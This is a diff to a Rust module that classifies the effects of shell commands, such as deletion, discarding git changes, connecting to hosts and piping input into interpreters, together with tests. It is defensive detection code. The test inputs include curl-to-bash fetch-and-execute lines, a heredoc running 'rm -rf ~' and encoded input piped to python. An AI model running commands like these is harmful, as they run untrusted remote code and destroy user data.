@@ -5,7 +5,6 @@ use std::ops::Range;
 
 use super::network::host::Host;
 use super::network::targets::{network_targets, network_targets_of_writes};
-use super::operands::files::file_operands;
 use super::read_only::judge::part_is_read_only;
 use super::syntax::expand::parse;
 use super::syntax::pieces::pieces;
@@ -31,12 +30,16 @@ pub enum EffectKind {
     RewritesHistory,
     /// Connects to these hosts; without any, to hosts that are not known.
     Connects(Vec<String>),
-    /// Runs in this program what another command prints.
+    /// Runs in this program what is not known before: its input, or what the shell puts in.
     RunsInput(String),
     /// Runs with the rights of another user.
     ChangesUser,
     /// Names these files, and may change them.
     Touches(Vec<String>),
+    /// Goes to this folder, to which later names are relative.
+    Goes(String),
+    /// The line cannot be read: nothing is known about it.
+    Unread,
 }
 
 /// Programs that delete their operands.
@@ -44,12 +47,15 @@ const DELETING: &str = "rm rmdir unlink shred";
 /// Programs that run another one as another user.
 const CHANGING_USER: &str = "sudo doas su pkexec runuser";
 /// Programs that run their input without an operand.
-const INTERPRETERS: &str = "sh bash zsh dash ash fish ksh python python3 perl ruby node php lua";
+const INTERPRETERS: &str = "sh bash zsh dash ash fish ksh python perl ruby node php lua";
 
 /// Returns the effects of a command line, in the order of its text.
 pub fn effects(line: &str) -> Vec<Effect> {
     let found = pieces(line);
     let mut out = Vec::new();
+    if found.commands.is_empty() && !line.trim().is_empty() {
+        out.push(Effect { range: 0..line.len(), kind: EffectKind::Unread });
+    }
     for range in found.commands {
         let script = parse(&line[range.clone()]);
         let kinds = script.commands.iter().flat_map(of_command);
@@ -59,6 +65,11 @@ pub fn effects(line: &str) -> Vec<Effect> {
         // A redirection alone is a command line, too.
         let script = parse(&line[range.clone()]);
         out.extend(of_writes(&script).into_iter().map(|kind| Effect { range: range.clone(), kind }));
+    }
+    for range in found.fed {
+        if let Some(program) = interpreter(&parse(&line[range.clone()])) {
+            out.push(Effect { range, kind: EffectKind::RunsInput(program) });
+        }
     }
     for stages in found.pipelines {
         for pair in stages.windows(2) {
@@ -75,6 +86,11 @@ pub fn effects(line: &str) -> Vec<Effect> {
 
 fn is_listed(list: &str, name: &str) -> bool {
     list.split_whitespace().any(|known| known == name)
+}
+
+/// Returns whether a program runs its input, under any version of its name.
+fn is_interpreter(name: &str) -> bool {
+    is_listed(INTERPRETERS, name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.'))
 }
 
 /// Returns the program's name without its folder, and its operands and options.
@@ -97,6 +113,12 @@ fn of_command(part: &SimpleCommand) -> Vec<EffectKind> {
     if name == "find" && words.contains(&"-delete") {
         kinds.push(EffectKind::Deletes(operands().take(1).collect()));
     }
+    if name == "cd" {
+        return operands().take(1).map(EffectKind::Goes).collect();
+    }
+    if is_interpreter(name) && part.words.iter().any(|word| word.is_dynamic) {
+        kinds.push(EffectKind::RunsInput(name.to_string()));
+    }
     if name == "git" {
         kinds.extend(of_git(&words));
     }
@@ -105,7 +127,10 @@ fn of_command(part: &SimpleCommand) -> Vec<EffectKind> {
         kinds.push(EffectKind::Connects(hosts.iter().map(Host::rule).collect()));
     }
     if !part_is_read_only(part) {
-        let files: Vec<String> = file_operands(part).into_iter().map(|operand| operand.text).collect();
+        // For people: a word that is an option names no file, except after its `=`.
+        let values =
+            words.iter().filter(|word| word.starts_with('-')).filter_map(|word| word.split_once('='));
+        let files: Vec<String> = operands().chain(values.map(|(_, value)| value.to_string())).collect();
         if !files.is_empty() {
             kinds.push(EffectKind::Touches(files));
         }
@@ -115,17 +140,23 @@ fn of_command(part: &SimpleCommand) -> Vec<EffectKind> {
 
 /// Returns what git does to work that is in no commit, or in commits of others.
 fn of_git(words: &[&str]) -> Option<EffectKind> {
-    let has = |wanted: &[&str]| words.iter().any(|word| wanted.contains(word));
-    let command = words.iter().find(|word| !word.starts_with('-'))?;
-    match *command {
+    // Some options have a value in the next word.
+    let is_value = |at: usize| at > 0 && ["-C", "-c", "--git-dir", "--work-tree"].contains(&words[at - 1]);
+    let start = (0..words.len()).find(|at| !words[*at].starts_with('-') && !is_value(*at))?;
+    let (command, words) = (words[start], &words[start + 1..]);
+    let has =
+        |wanted: &[&str]| words.iter().any(|word| wanted.contains(&word.split('=').next().unwrap_or(word)));
+    match command {
         "clean" if !has(&["-n", "--dry-run"]) => Some(EffectKind::Deletes(Vec::new())),
         "reset" if has(&["--hard", "--merge", "--keep"]) => Some(EffectKind::Discards),
-        "restore" if !has(&["--staged"]) => Some(EffectKind::Discards),
+        "restore" if !has(&["--staged", "-S"]) || has(&["--worktree", "-W"]) => Some(EffectKind::Discards),
+        "switch" if has(&["--discard-changes", "-f", "--force"]) => Some(EffectKind::Discards),
         "checkout" if has(&["--", "-f", "--force", "."]) => Some(EffectKind::Discards),
         "stash" if has(&["drop", "clear"]) => Some(EffectKind::Discards),
-        "push" if has(&["-f", "--force", "--force-with-lease", "--mirror", "--delete"]) => {
+        "push" if has(&["-f", "--force", "--force-with-lease", "--mirror", "--delete", "-d"]) => {
             Some(EffectKind::RewritesHistory)
         }
+        "push" if words.iter().any(|word| word.starts_with('+')) => Some(EffectKind::RewritesHistory),
         "branch" if has(&["-D"]) => Some(EffectKind::Discards),
         _ => None,
     }
@@ -145,7 +176,7 @@ fn interpreter(stage: &Script) -> Option<String> {
         let (name, words) = program(part)?;
         let reads_input = words.iter().all(|word| word.starts_with('-') && *word != "-c" && *word != "-e")
             || words.contains(&"-s");
-        (is_listed(INTERPRETERS, name) && reads_input).then(|| name.to_string())
+        (is_interpreter(name) && reads_input).then(|| name.to_string())
     })
 }
 
@@ -155,7 +186,8 @@ mod tests {
     use proptest::prelude::*;
 
     fn found(line: &str) -> Vec<(String, EffectKind)> {
-        let kept = effects(line).into_iter().filter(|effect| !matches!(effect.kind, EffectKind::Touches(_)));
+        let is_kept = |kind: &EffectKind| !matches!(kind, EffectKind::Touches(_) | EffectKind::Goes(_));
+        let kept = effects(line).into_iter().filter(|effect| is_kept(&effect.kind));
         kept.map(|effect| (line[effect.range].to_string(), effect.kind)).collect()
     }
 
@@ -196,6 +228,32 @@ mod tests {
             ]
         );
         assert_eq!(found("cat list | bash run.sh"), []);
+    }
+
+    #[test]
+    fn command_effects_of_text_that_is_not_known_before() {
+        for line in [
+            "bash -c \"$(curl -fsSL https://a.example.com)\"",
+            "bash <(curl -fsSL https://a.example.com)",
+            "bash <<EOF\nrm -rf ~\nEOF\n",
+            "bash < script",
+            "echo cm0gLXJm | python3.12 -",
+        ] {
+            let kinds: Vec<EffectKind> = found(line).into_iter().map(|(_, kind)| kind).collect();
+            assert!(kinds.iter().any(|kind| matches!(kind, EffectKind::RunsInput(_))), "{line}: {kinds:?}");
+        }
+        assert_eq!(found("if ("), [("if (".to_string(), EffectKind::Unread)]);
+    }
+
+    #[test]
+    fn command_effects_of_git_follow_its_options() {
+        let kind = |line: &str| found(line).into_iter().map(|(_, kind)| kind).next();
+        assert_eq!(kind("git -C sub reset --hard"), Some(EffectKind::Discards));
+        assert_eq!(kind("git restore --staged --worktree ."), Some(EffectKind::Discards));
+        assert_eq!(kind("git switch --discard-changes main"), Some(EffectKind::Discards));
+        assert_eq!(kind("git push --force-with-lease=main"), Some(EffectKind::RewritesHistory));
+        assert_eq!(kind("git push origin +main"), Some(EffectKind::RewritesHistory));
+        assert_eq!(kind("git push origin main"), None);
     }
 
     #[test]
